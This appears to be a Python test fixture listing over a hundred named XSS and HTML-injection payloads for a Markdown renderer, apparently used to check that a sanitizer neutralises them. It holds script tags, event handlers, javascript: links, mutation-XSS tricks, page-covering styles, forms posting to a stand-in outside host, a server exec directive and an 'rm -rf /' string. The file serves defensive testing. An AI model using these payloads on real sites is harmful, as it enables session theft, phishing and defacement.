# Lessons that try to run, load, cover or break something. Each would call `pwn`, open a dialog or
# ask another host. A host that does not exist is asked, so that a test which watches requests sees
# it and nothing is ever reached.
"""List attacks in Markdown."""

from __future__ import annotations

RUN = "pwn(1)"
HOST = "http://outside.invalid"

PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", f"<script>{RUN}</script>"),
    ("script in upper case", f"<SCRIPT>{RUN}</SCRIPT>"),
    ("script with a source", f'<script src="{HOST}/x.js"></script>'),
    ("script in a paragraph", f"Words <script>{RUN}</script> and words"),
    ("script in two", f"<scr<script></script>ipt>{RUN}</script>"),
    ("script not closed", f"<script>{RUN}"),
    ("script in svg", f"<svg><script>{RUN}</script></svg>"),
    ("script behind a broken comment", f"<!-- a --!><script>{RUN}</script> -->"),
    ("script behind an empty comment", f"<!--><script>{RUN}</script>-->"),
    ("script behind a short comment", f"<!---><img src=none onerror={RUN}>-->"),
    ("script in a conditional comment", f"<!--[if true]><script>{RUN}</script><![endif]-->"),
    ("script in a fenced name", f'``` {{ .python onclick="{RUN}" }}\nx = 1\n```'),
    ("image that fails", f"<img src=none onerror={RUN}>"),
    ("image that fails in Markdown", f'![words](none){{ onerror="{RUN}" }}'),
    ("image with a slash for a blank", f"<img/src=none/onerror={RUN}>"),
    ("image with an odd quote", f'<img """><script>{RUN}</script>">'),
    ("image not closed", f"<img src=none onerror={RUN}//"),
    ("image with a line break in its tag", f"<img src=none\nonerror\n=\n{RUN}>"),
    ("image of another name", f"<image src=none onerror={RUN}>"),
    (
        "attribute list on a paragraph",
        f'Words on a line\n{{: onclick="{RUN}" onmouseover="{RUN}" }}',
    ),
    ("attribute list on a heading", f'## Head {{ onmouseover="{RUN}" }}'),
    ("attribute list on a link", f'[words](#x){{ onclick="{RUN}" }}'),
    (
        "label of the table of contents",
        f'## Head {{ data-toc-label="&lt;img src=none onerror={RUN}&gt;" }}',
    ),
    (
        "label of the table of contents, twice escaped",
        f'## Head {{ data-toc-label="&amp;lt;img src=none onerror={RUN}&amp;gt;" }}',
    ),
    ("tag in code in a heading", f"## Head `<img src=none onerror={RUN}>`"),
    ("tag in a heading", f"## Head <img src=none onerror={RUN}>"),
    ("link to a script", f"[words](javascript:{RUN})"),
    ("link to a script in mixed case", f"[words](JaVaScRiPt:{RUN})"),
    ("link to a script in entities", f"[words](&#106;avascript:{RUN})"),
    ("link to a script with a tab", f'<a href="java&#9;script:{RUN}">words</a>'),
    ("link to a script with a line break", f'<a href="java\nscript:{RUN}">words</a>'),
    ("link to a script after a control sign", f'<a href="&#1;javascript:{RUN}">words</a>'),
    ("link to a script by reference", f"[words][r]\n\n[r]: javascript:{RUN}"),
    ("link to a script in angle brackets", f"<javascript:{RUN}>"),
    ("link to a page in data", f'<a href="data:text/html,<script>{RUN}</script>">words</a>'),
    ("link to vbscript", '<a href="vbscript:msgbox(1)">words</a>'),
    ("link in svg", f'<svg><a xlink:href="javascript:{RUN}"><text y="20">words</text></a></svg>'),
    (
        "link that an animation makes",
        f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text>w</text></a></svg>',
    ),
    ("svg that loads", f"<svg onload={RUN}><path d='M0 0'/></svg>"),
    (
        "svg with a foreign object",
        (
            "<svg><foreignObject><iframe"
            " srcdoc='<script>parent.pwn(1)</script>'></iframe></foreignObject></svg>"
        ),
    ),
    ("svg by use", f'<svg><use href="{HOST}/x.svg#x"></use></svg>'),
    (
        "picture of svg in data",
        (
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
            " onload='pwn(1)'/>\">"
        ),
    ),
    ("frame", f'<iframe src="{HOST}/"></iframe>'),
    ("frame with a document", "<iframe srcdoc='<script>parent.pwn(1)</script>'></iframe>"),
    ("frame to a script", f'<iframe src="javascript:parent.{RUN}"></iframe>'),
    ("object", f'<object data="{HOST}/x.swf"></object>'),
    ("embed", f'<embed src="{HOST}/x.swf">'),
    ("base", f'<base href="{HOST}/">'),
    ("refresh", f'<meta http-equiv="refresh" content="0;url={HOST}/">'),
    ("stylesheet by link", f'<link rel="stylesheet" href="{HOST}/x.css">'),
    ("style", f"<style>@import url({HOST}/x.css); body {{ display: none }}</style>"),
    ("style attribute that loads", f'<p style="background:url({HOST}/x.png)">words</p>'),
    ("style attribute that covers", '<div style="position:fixed;inset:0;z-index:9999">words</div>'),
    ("form", f'<form action="{HOST}/"><input name=q><button>Go</button></form>'),
    ("form that runs", f'<form><button formaction="javascript:{RUN}">Go</button></form>'),
    ("input with focus", f"<input autofocus onfocus={RUN}>"),
    ("input for a password", '<input type="password" name="password">'),
    ("select with focus", f"<select autofocus onfocus={RUN}><option>x</option></select>"),
    ("details that open", f"<details open ontoggle={RUN}><summary>words</summary></details>"),
    (
        "details that open, in Markdown in HTML",
        (
            f'<details open ontoggle="{RUN}"'
            ' markdown="1"><summary>words</summary>\n\nText\n\n</details>'
        ),
    ),
    ("video that fails", f"<video><source src=none onerror={RUN}></video>"),
    ("audio that fails", f"<audio src=none onerror={RUN}></audio>"),
    ("marquee", f"<marquee onstart={RUN}>words</marquee>"),
    ("body", f"<body onload={RUN} onhashchange={RUN}>"),
    ("animation that ends", f'<b style="animation:md-x 1s" onanimationstart={RUN}>words</b>'),
    (
        "math and style",
        (
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=none'
            f' onerror={RUN}&gt;">'
        ),
    ),
    (
        "form in math",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=none onerror={RUN}>",
    ),
    ("svg and style", f'<svg></p><style><a id="</style><img src=none onerror={RUN}>">'),
    ("noscript", f'<noscript><p title="</noscript><img src=none onerror={RUN}>">'),
    ("template", f"<template><img src=none onerror={RUN}></template>"),
    ("text area", f"<textarea></textarea><img src=none onerror={RUN}>"),
    ("title", f"<title><a title='</title><img src=none onerror={RUN}>'></title>"),
    ("plaintext", "<plaintext>"),
    ("section of data", f"<![CDATA[<img src=none onerror={RUN}>]]>"),
    ("instruction", f"<?php echo 1; ?><img src=none onerror={RUN}>"),
    ("command to a server", '<!--#exec cmd="ls" -->'),
    ("leaf that hides an attribute", f'<a title="<b>" onmouseover={RUN} x="</b>">words</a>'),
    ("leaf that makes a comment", f"<!-<b></b>- <img src=none onerror={RUN}> -->"),
    ("tag that is two", f"<<img src=none onerror={RUN}>img>"),
    ("attribute twice", f'<a href="#x" href="javascript:{RUN}">words</a>'),
    ("name of a theme's part", '<div id="__config">{"base": "http://outside.invalid"}</div>'),
    (
        "name of a theme's search",
        '<input type="checkbox" id="__search"><a name="__drawer">words</a>',
    ),
    (
        "part of a theme",
        (
            '<div data-md-component="search">words</div><span data-clipboard-text="rm -rf'
            ' /">words</span>'
        ),
    ),
    ("ends of what is not ours", "</div></article></main></body></html><p>words</p>"),
    ("balanced tags that end more", "<ul><li><div><li></li></div></li></ul></div>"),
    ("popover", '<button popovertarget="x">Go</button><div popover id="x">words</div>'),
    ("custom element", f"<x-y onclick={RUN}>words</x-y>"),
    (
        "events with blanks",
        f"<p onclick = '{RUN}' ONMOUSEOVER={RUN} onpointerenter={RUN}>words</p>",
    ),
    ("emphasis around a tag", f"**<img src=none onerror={RUN}>**"),
    ("footnote", f"Words[^1]\n\n[^1]: <img src=none onerror={RUN}>"),
    ("admonition title", f'!!! note "<img src=none onerror={RUN}>"\n    Words'),
    (
        "cell of a table",
        f"| a | b |\n|---|---|\n| <img src=none onerror={RUN}> | [w](javascript:{RUN}) |",
    ),
    ("abbreviation", f'ABC here\n\n*[ABC]: "onmouseover="{RUN}"'),
    ("title of a link", f"[words](#x '\"onmouseover={RUN} x=\"')"),
    (
        "title that a tooltip shows",
        f'<abbr title="&lt;img src=none onerror={RUN}&gt;">words</abbr>'
        f' [w](#x "<img src=none onerror={RUN}>")',
    ),
    ("diagram that loads its script", '<pre class="mermaid"><code>graph LR; A--&gt;B</code></pre>'),
    (
        "class and length that cover",
        '<div class="md-overlay" style="margin-top:-.5e3px;height:9e9px">words</div>',
    ),
    ("fill that loads", f'<svg><rect width="9" height="9" fill="url({HOST}/x.svg#a)"/></svg>'),
    (
        "blank that is none",
        f'<span title=\u00a0"x tabindex=1 autofocus onfocus={RUN} y">words</span>',
    ),
    (
        "blank that is none, in a tag",
        f'<div\u00a0title="a tabindex=1 autofocus onfocus={RUN} b">words</div>',
    ),
    ("handler in a formula", f"<math><mtext onclick={RUN}>words</mtext></math>"),
    ("placeholder with a handler", f'<autoref identifier="x" onclick={RUN}>words</autoref>'),
    ("text of an image", f'![" onerror="{RUN}](none)'),
)
